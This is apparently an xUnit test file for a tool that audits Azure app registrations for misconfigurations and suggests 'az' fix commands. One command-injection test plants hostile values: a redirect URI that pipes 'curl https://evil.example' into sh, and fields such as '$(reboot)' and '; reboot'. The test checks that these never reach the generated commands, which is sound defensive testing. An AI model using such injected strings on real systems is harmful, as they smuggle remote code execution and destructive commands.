using System.Text.Json.Nodes;
using Gatehouse.Gateway.Registrations;

namespace Gatehouse.Gateway.Tests.Registrations;

/// <summary>Registrations with one planted fault each: the doctor finds it, and nothing else.</summary>
[Trait("Requirement", "EN-04")]
public sealed class RegistrationDoctorTests
{
    private const string Kept = """["https://mcp.example.com/auth/callback"]""";
    private const string Broker = $"ms-appx-web://microsoft.aad.brokerplugin/{SampleRegistration.App}";
    private const string Client = "22222222-2222-4222-8222-222222222222";
    private const string Exchange = "00000002-0000-0ff1-ce00-000000000000";
    private const string First = "$.passwordCredentials[0]";
    private const string Renewal =
        $"--append --end-date 2027-05-28\naz ad app credential delete --id {SampleRegistration.App} --key-id {SampleRegistration.Key} ";
    private const string Second = "$.requiredResourceAccess[0].resourceAccess[1]";

    private static readonly (string Rule, string Kind, string Path, string Command, Action<JsonObject> Plant)[] Planted =
    [
        ("public-client-credential", "local", First,
            $"az ad app credential delete --id {SampleRegistration.App} --key-id {SampleRegistration.Key}",
            one => one["passwordCredentials"] = Credential("2026-10-01", "2027-03-01")),
        ("public-client-credential", "local", "$.keyCredentials[0]", "--cert", one => one["keyCredentials"] = Credential("2026-10-01", "2027-03-01")),
        ("fallback-public-client", "remote", "$.isFallbackPublicClient", "--is-fallback-public-client false",
            one => one["isFallbackPublicClient"] = true),
        ("device-code-allowed", "local", "$.isFallbackPublicClient", "--is-fallback-public-client false",
            one => one["isFallbackPublicClient"] = true),
        ("local-web-platform", "local", "$.web.redirectUris[0]",
            $"'{{\"web\":{{\"redirectUris\":[]}},\"publicClient\":{{\"redirectUris\":[\"http://localhost\",\"{Broker}\"]}}}}'",
            one => one["web"]!["redirectUris"] = Texts("http://localhost")),
        ("public-client-platform", "remote", "$.publicClient.redirectUris[0]", "\"publicClient\"",
            one => one["publicClient"]!["redirectUris"] = Texts("https://mcp.example.com/native")),
        ("spa-platform", "remote", "$.spa.redirectUris[0]", "\"spa\"", one => one["spa"]!["redirectUris"] = Texts("https://mcp.example.com/page")),
        ("implicit-grant", "remote", "$.web.implicitGrantSettings.enableAccessTokenIssuance", "--enable-access-token-issuance false",
            one => one["web"]!["implicitGrantSettings"]!["enableAccessTokenIssuance"] = true),
        ("implicit-grant", "gateway", "$.web.implicitGrantSettings.enableIdTokenIssuance", "--enable-id-token-issuance false",
            one => one["web"]!["implicitGrantSettings"]!["enableIdTokenIssuance"] = true),
        ("multi-tenant", "remote", "$.signInAudience", "--sign-in-audience AzureADMyOrg", one => one["signInAudience"] = "AzureADMultipleOrgs"),
        ("multi-tenant", "local", "$.signInAudience", "--sign-in-audience AzureADMyOrg",
            one => one["signInAudience"] = "AzureADandPersonalMicrosoftAccount"),
        ("token-version", "remote", "$.api.requestedAccessTokenVersion", "\"requestedAccessTokenVersion\":2",
            one => one["api"]!["requestedAccessTokenVersion"] = null),
        ("token-version", "gateway", "$.api.requestedAccessTokenVersion", "\"requestedAccessTokenVersion\":2",
            one => one["api"]!["requestedAccessTokenVersion"] = 1),
        ("no-own-scope", "remote", "$.api.oauth2PermissionScopes", "SCOPE", one => one["api"]!["oauth2PermissionScopes"]![0]!["isEnabled"] = false),
        ("graph-scope-as-own", "remote", "$.api.oauth2PermissionScopes[0]", "SCOPE",
            one => one["api"]!["oauth2PermissionScopes"]![0]!["value"] = "user.read"),
        ("pre-authorized-client", "remote", "$.api.preAuthorizedApplications[0]", "'{\"api\":{\"preAuthorizedApplications\":[]}}'",
            one => one["api"]!["preAuthorizedApplications"] = PreAuthorized(Client)),
        ("groups-overflow", "remote", "$.groupMembershipClaims", "groupMembershipClaims=ApplicationGroup",
            one => one["groupMembershipClaims"] = "All"),
        ("no-owner", "remote", "$.owners", "az ad app owner add", one => one["owners"] = new JsonArray()),
        ("redirect-unreadable", "remote", "$.web.redirectUris[1]", Kept, one => Redirect(one, "mcp.example.com/auth")),
        ("redirect-wildcard", "remote", "$.web.redirectUris[1]", Kept, one => Redirect(one, "https://mcp.example.com/*")),
        ("redirect-http", "remote", "$.web.redirectUris[1]", Kept,
            one => Redirect(one, "http://mcp.example.com/auth/callback")),
        ("redirect-temporary-host", "remote", "$.web.redirectUris[1]", Kept,
            one => Redirect(one, "https://a1b2.ngrok-free.app/auth/callback")),
        ("redirect-foreign-host", "gateway", "$.web.redirectUris[1]", Kept,
            one => Redirect(one, "https://old.example.com/auth/callback")),
        ("redirect-foreign-host", "local", "$.publicClient.redirectUris[2]", "\"http://localhost\"",
            one => one["publicClient"]!["redirectUris"]!.AsArray().Add("https://mcp.example.com/callback")),
        ("redirect-left-over", "remote", "$.web.redirectUris[1]", Kept,
            one => Redirect(one, "https://localhost:7443/auth/callback")),
        ("redirect-loopback-path", "local", "$.publicClient.redirectUris[2]", "\"http://localhost\"",
            one => one["publicClient"]!["redirectUris"]!.AsArray().Add("http://localhost:8400/callback")),
        ("redirect-scheme", "local", "$.publicClient.redirectUris[2]", "\"http://localhost\"",
            one => one["publicClient"]!["redirectUris"]!.AsArray().Add("myserver://auth")),
        ("redirect-scheme", "remote", "$.web.redirectUris[1]", Kept, one => Redirect(one, "myserver://auth")),
        ("no-redirect", "remote", "$.web.redirectUris", "--web-redirect-uris", one => one["web"]!["redirectUris"] = new JsonArray()),
        ("no-redirect", "local", "$.publicClient.redirectUris", "--public-client-redirect-uris",
            one => one["publicClient"]!["redirectUris"] = new JsonArray()),
        ("permission-wide", "remote", Second, "--api-permissions c5366453-9fb0-48a5-a156-24f0c49a4b84",
            one => Permission(one, "c5366453-9fb0-48a5-a156-24f0c49a4b84")),
        ("permission-wide", "gateway", Second, "--api-permissions 9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8",
            one => Permission(one, "9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8", "Role")),
        ("permission-application", "remote", Second, "--api-permissions 810c84a8-4a9e-49e6-bf7d-12d183f40d01",
            one => Permission(one, "810c84a8-4a9e-49e6-bf7d-12d183f40d01", "Role")),
        ("permission-application", "gateway", Second, "az ad app permission delete",
            one => Permission(one, "88888888-8888-4888-8888-888888888888", "Role")),
        ("permission-application", "remote", "$.requiredResourceAccess[1].resourceAccess[0]",
            $"--api {Exchange} --api-permissions dc890d15-9560-4a4c-9b7f-a736ec74ec40",
            one => OtherApi(one, Exchange, "dc890d15-9560-4a4c-9b7f-a736ec74ec40", "Role")),
        ("permission-application", "gateway", "$.requiredResourceAccess[1].resourceAccess[0]", $"--api {Exchange}",
            one => OtherApi(one, Exchange, "cd4161cb-f098-48f8-a884-1eda9a42434c", "Role")),
        ("permission-over-broad", "remote", Second, "--api-permissions 570282fd-fa5c-430d-a7fd-fc8dc98a9dca",
            one => Permission(one, "570282fd-fa5c-430d-a7fd-fc8dc98a9dca")),
        ("permission-missing", "local", "$.requiredResourceAccess", $"--api-permissions {SampleRegistration.UserRead}=Scope",
            one => one["requiredResourceAccess"] = new JsonArray()),
        ("permission-unknown", "remote", Second, "az ad app permission delete",
            one => Permission(one, "88888888-8888-4888-8888-888888888888")),
        ("permission-unknown", "gateway", "$.requiredResourceAccess[1].resourceAccess[0]", "--api 797f4846-ba00-4fd7-ba43-dac1f8f63013",
            one => OtherApi(one, "797f4846-ba00-4fd7-ba43-dac1f8f63013", "41094075-9dad-400e-a0bd-54e686782033", "Scope")),
        ("permission-retired", "remote", "$.requiredResourceAccess[1].resourceAccess[0]", "--api 00000002-0000-0000-c000-000000000000",
            one => OtherApi(one, "00000002-0000-0000-c000-000000000000", "311a71cc-e848-46a1-bdf8-97ff7156d8e6", "Scope")),
        ("credential-expired", "remote", First, "az ad app credential delete",
            one => one["passwordCredentials"] = Credential("2026-05-01", "2026-10-01")),
        ("credential-near-expiry", "remote", First, Renewal,
            one => one["passwordCredentials"] = Credential("2026-09-01", "2026-12-20")),
        ("credential-long-lived", "remote", First, Renewal,
            one => one["passwordCredentials"] = Credential("2026-09-01", "2028-09-01")),
        ("credential-long-lived", "gateway", "$.keyCredentials[0]", $"--key-id {SampleRegistration.Key} --cert",
            one => one["keyCredentials"] = Credential("2026-09-01", "2036-09-01")),
        ("credential-long-lived", "remote", First, Renewal,
            one => one["passwordCredentials"]![0]!.AsObject().Remove("endDateTime")),
        ("several-secrets", "remote", "$.passwordCredentials[2]", "az ad app credential delete",
            one => one["passwordCredentials"] = new JsonArray(
                [.. Enumerable.Range(0, 3).Select(static _ => Credential("2026-10-01", "2027-03-01")[0]!.DeepClone())])),
        ("federated-wide-subject", "remote", "$.federatedIdentityCredentials[0]", "az ad app federated-credential update",
            one => one["federatedIdentityCredentials"]![0]!["subject"] = "repo:example/mcp:pull_request"),
        ("federated-wide-subject", "gateway", "$.federatedIdentityCredentials[0]", "az ad app federated-credential update",
            one => Expression(one, "claims['sub'] matches 'repo:example/mcp:ref:refs/heads/*'")),
        ("federated-wide-subject", "remote", "$.federatedIdentityCredentials[0]", "az ad app federated-credential update",
            one => Expression(one, "claims['repository_owner'] eq 'contoso'")),
        ("federated-wide-subject", "remote", "$.federatedIdentityCredentials[0]", "az ad app federated-credential update",
            one => Expression(one, "claims['sub'] eq 'repo:contoso/mcp:pull_request' and claims['job_workflow_ref'] matches '*'")),
        ("federated-audience", "remote", "$.federatedIdentityCredentials[0]", "az ad app federated-credential update",
            one => one["federatedIdentityCredentials"]![0]!["audiences"] = Texts("api://AzureADTokenExchangeEvil")),
        ("federated-audience", "remote", "$.federatedIdentityCredentials[0]", "az ad app federated-credential update",
            one => one["federatedIdentityCredentials"]![0]!["audiences"] = Texts("https://management.azure.com")),
        ("federated-issuer", "remote", "$.federatedIdentityCredentials[0]", "az ad app federated-credential update",
            one => one["federatedIdentityCredentials"]![0]!["issuer"] = "http://issuer.example.com"),
        ("incomplete", "remote", "$.passwordCredentials", "az ad app show", one => one.Remove("passwordCredentials")),
        ("unreadable", "remote", "$.groupMembershipClaims", "az ad app show", one => one["groupMembershipClaims"] = 7),
    ];

    // A grant of delegated permissions is one text: the command keeps the others.
    private static readonly (string Rule, string Path, string Command, JsonNode Grants, Action<JsonObject>? Plant)[] PlantedGrants =
    [
        ("grant-wide", "$.grants[0].scope", Patch("openid User.Read"), Scopes("openid User.Read Directory.ReadWrite.All"), null),
        ("grant-wide", "$.grants[0].scope", "az rest --method DELETE --url https://graph.microsoft.com/v1.0/oauth2PermissionGrants/q1w2-E3",
            Scopes("Directory.ReadWrite.All"), null),
        ("grant-left-over", "$.grants[0].scope", Patch("User.Read"), Scopes("User.Read Mail.Read"), null),
        ("grant-left-over", "$.grants[0].scope", Patch("User.Read"), Scopes("User.Read Policy.ReadWrite.Authorization"), null),
        ("grant-left-over", "$.grants[0]",
            "https://graph.microsoft.com/v1.0/servicePrincipals/99999999-9999-4999-8999-999999999999/appRoleAssignments/q1w2-E3",
            Role("810c84a8-4a9e-49e6-bf7d-12d183f40d01"), null),
        ("grant-left-over", "$.grants[0]", "/appRoleAssignments/q1w2-E3", Role("dc890d15-9560-4a4c-9b7f-a736ec74ec40"), null),
        ("grant-unknown", "$.grants[0].scope", Patch("User.Read"), Scopes("User.Read Policy.ReadWrite.Authorization"),
            static one => Permission(one, "88888888-8888-4888-8888-888888888888")),
        ("grant-left-over", "$.grants[0].scope", Patch("User.Read"), Scopes("User.Read Policy.ReadWrite.Authorization"),
            static one => OtherApi(one, Exchange, "88888888-8888-4888-8888-888888888888", "Scope")),
        ("grant-unknown", "$.grants[0].scope", "--method DELETE", Scopes("full_access"),
            static one => OtherApi(one, Exchange, "88888888-8888-4888-8888-888888888888", "Scope")),
    ];

    public static TheoryData<int, string> Faults => [.. Planted.Select(static (one, at) => (at, $"{one.Kind}: {one.Rule}"))];

    public static TheoryData<int, string> GrantFaults => [.. PlantedGrants.Select(static (one, at) => (at, one.Rule))];

    [Theory]
    [InlineData("local")]
    [InlineData("remote")]
    [InlineData("gateway")]
    public void RegistrationOfTheGuide_HasNoFinding(string kind) =>
        Assert.Empty(RegistrationDoctor.Examine(SampleRegistration.Read(Kind(kind)), SampleRegistration.Demands(Kind(kind))));

    [Theory]
    [MemberData(nameof(Faults))]
    public void EachPlantedFault_IsFoundAlone_WithItsPlaceAndTheCommandThatMendsIt(int at, string name)
    {
        var planted = Planted[at];
        Assert.EndsWith(planted.Rule, name, StringComparison.Ordinal);
        var kind = Kind(planted.Kind);
        var one = Assert.Single(RegistrationDoctor.Examine(SampleRegistration.Read(kind, planted.Plant), SampleRegistration.Demands(kind)));
        Assert.Equal(planted.Rule, one.Rule.Id);
        Assert.Equal(planted.Path, one.Path);
        Assert.Contains(planted.Command, one.Command, StringComparison.Ordinal);
        Assert.StartsWith("az ", one.Command, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(GrantFaults))]
    public void EachPlantedGrant_IsFoundAlone_AndTheCommandKeepsTheOthers(int at, string rule)
    {
        var (_, path, command, grants, plant) = PlantedGrants[at];
        var app = SampleRegistration.Read(RegisteredKind.Remote, plant, grants);
        var found = RegistrationDoctor.Examine(app, SampleRegistration.Demands(RegisteredKind.Remote));
        var one = Assert.Single(found, static one => one.Rule.Id != "permission-unknown");
        Assert.Equal((rule, path), (one.Rule.Id, one.Path));
        Assert.Contains(command, one.Command, StringComparison.Ordinal);
    }

    [Fact]
    public void EachCommandAboutUnknownGrants_TakesOutAllOfThem()
    {
        var app = SampleRegistration.Read(RegisteredKind.Remote, static one => Permission(one, "88888888-8888-4888-8888-888888888888"),
            Scopes("User.Read Sites.Manage.All Policy.ReadWrite.Authorization"));
        var found = RegistrationDoctor.Examine(app, SampleRegistration.Demands(RegisteredKind.Remote));
        Assert.Equal(["permission-unknown", "grant-unknown", "grant-unknown"], found.Select(static one => one.Rule.Id));
        Assert.All(found.Skip(1), static one => Assert.Equal(Patch("User.Read"), one.Command));
    }

    // Where a tool needs it, the registration lacks it, and the grant is right.
    [Fact]
    public void AGrantThatAToolNeeds_IsRequested_AndNotRevoked()
    {
        var app = SampleRegistration.Read(RegisteredKind.Remote, static one => one["requiredResourceAccess"] = new JsonArray(), Scopes("User.Read"));
        var found = RegistrationDoctor.Examine(app, SampleRegistration.Demands(RegisteredKind.Remote));
        Assert.Equal(["permission-missing", "grant-left-over"], found.Select(static one => one.Rule.Id));
        Assert.Equal(found[0].Command, found[1].Command);
    }

    [Fact]
    public void APreAuthorizedClient_ThatIsNamed_IsNoFault_AndIsKept()
    {
        const string other = "22222222-2222-4222-8222-000000000000";
        var app = SampleRegistration.Read(
            RegisteredKind.Remote, static one => one["api"]!["preAuthorizedApplications"] = PreAuthorized(Client, other));
        var demands = SampleRegistration.Demands(RegisteredKind.Remote) with { Clients = [Guid.Parse(Client)] };
        var found = Assert.Single(RegistrationDoctor.Examine(app, demands));
        Assert.Equal("$.api.preAuthorizedApplications[1]", found.Path);
        Assert.EndsWith($"{{\"preAuthorizedApplications\":{PreAuthorized(Client).ToJsonString()}}}}}'", found.Command, StringComparison.Ordinal);
        Assert.Empty(RegistrationDoctor.Examine(app, demands with { Clients = [Guid.Parse(Client), Guid.Parse(other)] }));
    }

    [Theory]
    [InlineData("claims['sub'] eq 'repo:example/mcp:environment:production'")]
    [InlineData("claims['sub'] eq 'repo:example/mcp:environment:production' and claims['job_workflow_ref'] matches 'example/*'")]
    [InlineData("claims['job_workflow_ref'] matches 'example/*' and claims['sub'] eq 'repo:example/mcp:environment:production'")]
    public void AnExpressionThatPinsTheSubject_IsNoFault(string expression) => Assert.Empty(RegistrationDoctor.Examine(
        SampleRegistration.Read(RegisteredKind.Remote, one => Expression(one, expression)), SampleRegistration.Demands(RegisteredKind.Remote)));

    // .NET takes this name for the machine of the browser; any DNS server may give it another address.
    [Fact]
    public void TheNameLoopback_IsAHostOfTheNetwork()
    {
        var app = SampleRegistration.Read(
            RegisteredKind.Local, static one => one["publicClient"]!["redirectUris"]!.AsArray().Add("http://loopback"));
        var found = RegistrationDoctor.Examine(app, SampleRegistration.Demands(RegisteredKind.Local));
        Assert.Contains(found, static one => one.Rule.Id == "redirect-http");
    }

    [Fact]
    public void EveryRule_HasAPlantedFault() => Assert.Equal(
        RegistrationDoctor.Rules.Select(static rule => rule.Id).Order(StringComparer.Ordinal),
        Planted.Select(static one => one.Rule).Concat(PlantedGrants.Select(static one => one.Rule)).Distinct().Order(StringComparer.Ordinal));

    // What a gateway asks Microsoft Graph for itself, and what a server of development has.
    [Fact]
    public void WhatServesAPurpose_IsNoFault()
    {
        Assert.Empty(RegistrationDoctor.Examine(
            SampleRegistration.Read(RegisteredKind.Gateway, static one => Permission(one, "cd4161cb-f098-48f8-a884-1eda9a42434c", "Role")),
            SampleRegistration.Demands(RegisteredKind.Gateway)));
        Assert.Empty(RegistrationDoctor.Examine(
            SampleRegistration.Read(RegisteredKind.Gateway, static one =>
            {
                one["api"]!["oauth2PermissionScopes"] = new JsonArray();
                one["api"]!["requestedAccessTokenVersion"] = null;
            }), SampleRegistration.Demands(RegisteredKind.Gateway)));
        var development = SampleRegistration.Demands(RegisteredKind.Remote) with { ServerUrl = new Uri("https://localhost:7443/mcp") };
        Assert.Empty(RegistrationDoctor.Examine(
            SampleRegistration.Read(RegisteredKind.Remote, static one => one["web"]!["redirectUris"] = Texts("https://localhost:7443/auth/callback")),
            development));
        Assert.Empty(RegistrationDoctor.Examine(
            SampleRegistration.Read(RegisteredKind.Remote, null, Grants("""
                { "id": "g", "clientId": "c", "consentType": "AllPrincipals", "resourceId": "r", "scope": " openid profile User.Read Mcp.Call" }
                """)), SampleRegistration.Demands(RegisteredKind.Remote)));
    }

    // Two commands after one another must not bring back what the first removed.
    [Fact]
    public void EachCommandAboutRedirects_KeepsOnlyThoseWithoutAFault()
    {
        var app = SampleRegistration.Read(RegisteredKind.Remote, static one =>
        {
            Redirect(one, "http://mcp.example.com/auth/callback");
            Redirect(one, "https://localhost:7443/auth/callback");
        });
        var found = RegistrationDoctor.Examine(app, SampleRegistration.Demands(RegisteredKind.Remote));
        Assert.Equal(["redirect-http", "redirect-left-over"], found.Select(static one => one.Rule.Id));
        Assert.All(found, static one => Assert.EndsWith("'{\"web\":{\"redirectUris\":" + Kept + "}}'", one.Command, StringComparison.Ordinal));
    }

    // Threat: a command that a person copies runs what the registration says (CWE-78).
    [Fact]
    public void TextOfTheRegistration_IsNotPartOfACommand()
    {
        const string evil = "https://mcp.example.com/a'; curl https://evil.example | sh; '";
        var app = SampleRegistration.Read(RegisteredKind.Remote, one =>
        {
            one["web"]!["redirectUris"] = Texts(evil, "http://mcp.example.com/b");
            one["id"] = "$(reboot)";
            one["appId"] = "`reboot`";
            one["passwordCredentials"] = Credential("2026-05-01", "2026-10-01");
            one["passwordCredentials"]![0]!["keyId"] = "; reboot";
            one["federatedIdentityCredentials"]![0]!["id"] = "| reboot";
            one["federatedIdentityCredentials"]![0]!["subject"] = "*";
        }, Grants("""{ "id": "x; reboot", "consentType": "Principal", "scope": "Mail.Read" }"""));
        var commands = RegistrationDoctor.Examine(app, SampleRegistration.Demands(RegisteredKind.Remote)).Select(static one => one.Command).ToList();
        Assert.Contains(commands, static command => command.Contains("OTHER-URI", StringComparison.Ordinal));
        Assert.DoesNotContain(commands, static command =>
            command.Contains("reboot", StringComparison.Ordinal) || command.Contains("curl", StringComparison.Ordinal));
    }

    [Fact]
    public void WhatIsNotGiven_IsNamedAsNotJudged()
    {
        var app = SampleRegistration.Read(RegisteredKind.Remote, one =>
        {
            one.Remove("owners");
            one.Remove("federatedIdentityCredentials");
        }) with
        { Grants = null };
        var demands = new RegistrationDemands(RegisteredKind.Remote, SampleRegistration.Now);
        Assert.Empty(RegistrationDoctor.Examine(app, demands));
        Assert.Contains("appRoleAssignments", RegistrationDoctor.NotJudged(app with { Grants = [] }, demands).Last(), StringComparison.Ordinal);
        Assert.Equal(["--tool", "--url", "--owners", "--federated", "--grants"],
            RegistrationDoctor.NotJudged(app, demands).Select(static text => text[text.LastIndexOf("--", StringComparison.Ordinal)..]));
    }

    [Fact]
    public void Table_NamesEachOperationOnce_WithAPermissionWhoseIdIsKnown()
    {
        Assert.Distinct(GraphPermissions.Operations.SelectMany(static one => one.Names));
        Assert.Distinct(GraphPermissions.All.SelectMany(static one => new[] { one.Delegated, one.Application }).Where(static id => id is not null));
        Assert.All(GraphPermissions.Operations, static operation =>
        {
            var permission = GraphPermissions.Of(operation.Permission);
            Assert.False(permission!.IsWide);
            Assert.NotNull(operation.IsOfGateway ? permission.Application : permission.Delegated);
        });
    }

    private static RegisteredKind Kind(string word) => Enum.Parse<RegisteredKind>(word, ignoreCase: true);

    private static JsonArray Texts(params string[] texts) => [.. texts.Select(static text => (JsonNode)text)];

    private static JsonArray Credential(string start, string end) =>
        [new JsonObject { ["keyId"] = SampleRegistration.Key, ["startDateTime"] = start + "T00:00:00Z", ["endDateTime"] = end + "T00:00:00Z" }];

    private static JsonNode Grants(string grant) => JsonNode.Parse($$"""{ "value": [{{grant}}] }""")!;

    private static void Redirect(JsonObject registration, string uri) => registration["web"]!["redirectUris"]!.AsArray().Add(uri);

    private static void Permission(JsonObject registration, string id, string type = "Scope") =>
        registration["requiredResourceAccess"]![0]!["resourceAccess"]!.AsArray().Add(new JsonObject { ["id"] = id, ["type"] = type });

    private static void OtherApi(JsonObject registration, string api, string id, string type) =>
        registration["requiredResourceAccess"]!.AsArray().Add(new JsonObject
        { ["resourceAppId"] = api, ["resourceAccess"] = new JsonArray(new JsonObject { ["id"] = id, ["type"] = type }) });

    private static void Expression(JsonObject registration, string expression)
    {
        var trusted = registration["federatedIdentityCredentials"]![0]!.AsObject();
        trusted.Remove("subject");
        trusted["claimsMatchingExpression"] = new JsonObject { ["value"] = expression, ["languageVersion"] = 1 };
    }

    private static JsonArray PreAuthorized(params string[] clients) => [.. clients.Select(static client => new JsonObject
    { ["appId"] = client, ["delegatedPermissionIds"] = Texts("66666666-6666-4666-8666-666666666666") })];

    private static JsonNode Scopes(string names) => Grants($$"""
        { "id": "q1w2-E3", "clientId": "c", "consentType": "AllPrincipals", "resourceId": "r", "scope": "{{names}}" }
        """);

    private static JsonNode Role(string id) => Grants($$"""
        { "id": "q1w2-E3", "principalId": "99999999-9999-4999-8999-999999999999", "appRoleId": "{{id}}" }
        """);

    private static string Patch(string scope) => "az rest --method PATCH --url https://graph.microsoft.com/v1.0/oauth2PermissionGrants/q1w2-E3 "
        + $"--headers Content-Type=application/json --body '{{\"scope\":\"{scope}\"}}'";
}
